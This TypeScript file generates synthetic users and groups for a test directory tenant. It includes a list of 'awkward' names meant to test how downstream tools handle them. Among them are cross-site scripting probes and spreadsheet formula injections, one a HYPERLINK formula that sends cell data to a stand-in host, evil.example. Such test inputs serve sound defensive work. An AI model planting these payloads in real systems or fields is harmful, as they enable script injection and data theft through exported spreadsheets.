/** Users and groups of the synthetic tenant, including awkward names from an HR feed. */

import type { Rng } from './rng.js';

const GIVEN = [
  'Avery',
  'Jordan',
  'Taylor',
  'Morgan',
  'Riley',
  'Casey',
  'Jamie',
  'Alex',
  'Sam',
  'Robin',
  'Emma',
  'Liam',
  'Olivia',
  'Noah',
  'Ava',
  'Elijah',
  'Sophia',
  'Lucas',
  'Mia',
  'Mateo',
  'Isabella',
  'Ethan',
  'Amelia',
  'Aiden',
  'Harper',
  'Leo',
  'Ella',
  'Henry',
  'Chloe',
  'Daniel',
  'Grace',
  'Owen',
  'Priya',
  'Arjun',
  'Mei',
  'Hiroshi',
  'Fatima',
  'Omar',
  'Ines',
  'Lars',
  'Ingrid',
  'Pieter',
  'Anna',
  'Marco',
  'Giulia',
  'Kwame',
  'Amara',
  'Diego',
];
const SURNAME = [
  'Lin',
  'Miller',
  'Smith',
  'Johnson',
  'Williams',
  'Brown',
  'Jones',
  'Garcia',
  'Davis',
  'Rodriguez',
  'Martinez',
  'Hernandez',
  'Lopez',
  'Wilson',
  'Anderson',
  'Thomas',
  'Moore',
  'Jackson',
  'Martin',
  'Lee',
  'Thompson',
  'White',
  'Harris',
  'Clark',
  'Lewis',
  'Walker',
  'Young',
  'Allen',
  'King',
  'Wright',
  'Scott',
  'Green',
  'Baker',
  'Adams',
  'Nelson',
  'Hill',
  'Patel',
  'Kumar',
  'Chen',
  'Wang',
  'Tanaka',
  'Sato',
  'Novak',
  'Jensen',
  'Larsen',
  'Rossi',
  'Mensah',
  'Okafor',
  'Silva',
  'Costa',
];
export const DEPARTMENTS = [
  'Sales',
  'Marketing',
  'Engineering',
  'Finance',
  'Human Resources',
  'Legal',
  'Operations',
  'Support',
  'Research',
  'Facilities',
  'IT',
  'Procurement',
];
export const TITLES = [
  'Analyst',
  'Senior Analyst',
  'Engineer',
  'Senior Engineer',
  'Manager',
  'Director',
  'Consultant',
  'Specialist',
  'Coordinator',
  'Associate',
  'Architect',
  'Administrator',
];
const GROUPS = [
  'All Employees',
  'Sales Team',
  'Engineering',
  'Self-service Pilot',
  'Finance Approvers',
  'Marketing EMEA',
  'Support Tier 2',
  'Contractors',
  'Executives',
  'IT Admins',
  'Project Phoenix',
  'Remote Workers',
  'Interns 2024',
  'Security Champions',
  'HR Business Partners',
  'Data Platform',
];

/** Names a real HR feed delivers and downstream tools mishandle: unicode, quotes, markup, CSV formulas. */
export const AWKWARD_NAMES: readonly (readonly [given: string, surname: string])[] = [
  ['Zoë', 'Ångström'],
  ['José', 'Ñúñez'],
  ['美咲', '佐藤'],
  ['Siobhán', "O'Brien"],
  ['"Bob"', 'Smith'],
  ['<script>alert(1)</script>', 'Test'],
  ['<img src=x onerror=alert(1)>', 'Probe'],
  ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', 'Formula'],
  ['Łukasz', 'Żółć-Wiśniewski'],
  ['Renée', 'Müller-Lüdenscheidt'],
  ['+SUM(1+1)', 'Plus'],
  ['Nguyễn', 'Thị Minh'],
  ['Dmitrí', 'Влади́мирович'],
  ['@SUM(A1:A2)', 'At'],
];

export interface User {
  readonly index: number;
  /** Entra object id. */
  readonly id: string;
  /** Object id without dashes (used in target ids). */
  readonly idHex: string;
  /** On-premises AD objectGUID. */
  readonly adGuid: string;
  /** Guest object id in the cross-tenant target. */
  readonly guestId: string;
  readonly given: string;
  readonly surname: string;
  readonly displayName: string;
  readonly upn: string;
  readonly nick: string;
  readonly department: string;
  readonly title: string;
  readonly workerId: string;
  readonly awkward: boolean;
}

export interface Group {
  readonly index: number;
  readonly id: string;
  readonly displayName: string;
  readonly nick: string;
}

function asciiNick(text: string): string {
  return text
    .normalize('NFD')
    .replace(/[\u0300-\u036f]/g, '')
    .replace(/[łŁ]/g, 'l')
    .toLowerCase()
    .replace(/[^a-z0-9]+/g, '');
}

/** Indices of the users that get awkward names: spread over the tenant. */
export function awkwardIndex(users: number, k: number): number {
  const n = Math.min(users, AWKWARD_NAMES.length);
  if (k >= n) return -1;
  return Math.floor((k * users) / n);
}

export function makeUsers(rng: Rng, count: number, domain: string): User[] {
  const awkwardAt = new Map<number, number>();
  for (let k = 0; k < AWKWARD_NAMES.length; k++) {
    const at = awkwardIndex(count, k);
    if (at >= 0) awkwardAt.set(at, k);
  }
  const used = new Set<string>();
  const users: User[] = [];
  for (let i = 0; i < count; i++) {
    const k = awkwardAt.get(i);
    const awkward = k !== undefined;
    const [given, surname] = awkward ? AWKWARD_NAMES[k] : [rng.pick(GIVEN), rng.pick(SURNAME)];
    let base = `${asciiNick(given)}.${asciiNick(surname)}`;
    if (base.length < 4 || base.startsWith('.') || base.endsWith('.')) base = `user${i}`;
    let nick = base;
    for (let n = 2; used.has(nick); n++) nick = `${base}${n}`;
    used.add(nick);
    const id = rng.guid();
    users.push({
      index: i,
      id,
      idHex: id.replace(/-/g, ''),
      adGuid: rng.guid(),
      guestId: rng.guid(),
      given,
      surname,
      displayName: `${given} ${surname}`,
      upn: `${nick}@${domain}`,
      nick,
      department: rng.pick(DEPARTMENTS),
      title: rng.pick(TITLES),
      workerId: String(21000 + i),
      awkward,
    });
  }
  return users;
}

export function makeGroups(rng: Rng, count: number): Group[] {
  const groups: Group[] = [];
  for (let i = 0; i < count; i++) {
    const base = GROUPS[i % GROUPS.length];
    const displayName = i < GROUPS.length ? base : `${base} ${Math.floor(i / GROUPS.length) + 1}`;
    groups.push({ index: i, id: rng.guid(), displayName, nick: asciiNick(displayName) || `group${i}` });
  }
  return groups;
}
